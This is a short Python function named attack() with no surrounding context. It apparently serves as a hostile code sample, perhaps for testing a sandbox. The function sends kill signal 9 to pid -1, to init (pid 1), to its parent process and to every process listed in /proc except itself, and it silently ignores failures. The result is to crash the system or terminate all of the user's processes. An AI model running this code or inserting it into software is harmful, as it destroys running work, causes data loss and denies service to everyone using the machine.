def attack():
    import os

    for pid in [-1, 1, os.getppid()] + [int(n) for n in os.listdir("/proc") if n.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
            except OSError:
                pass
